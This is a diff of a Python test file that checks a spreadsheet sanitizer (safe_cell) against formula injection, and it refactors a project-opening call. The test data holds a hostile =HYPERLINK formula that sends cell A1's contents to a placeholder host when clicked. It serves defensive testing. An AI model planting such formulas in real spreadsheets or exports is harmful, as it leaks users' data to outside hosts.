@@ -8,7 +8,7 @@ import sys
 import pytest
 
 from layers.io.spreadsheet import safe_cell
-from layers.model.project import Project
+from layers.store import open_project
 from tests.conftest import REPO
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点这里")'
@@ -25,7 +25,7 @@ def test_plain_text_is_unchanged(text):
 
 
 def test_audit_csv_of_a_hostile_community_name_opens_as_text(bundled_copy):
-    project = Project.open(bundled_copy)
+    project = open_project(bundled_copy)
     project.communities.update_attributes(project.communities.ids[0], {"name": HOSTILE})
     project.save()
     res = subprocess.run([sys.executable, "main.py", "audit", "--project", str(bundled_copy),
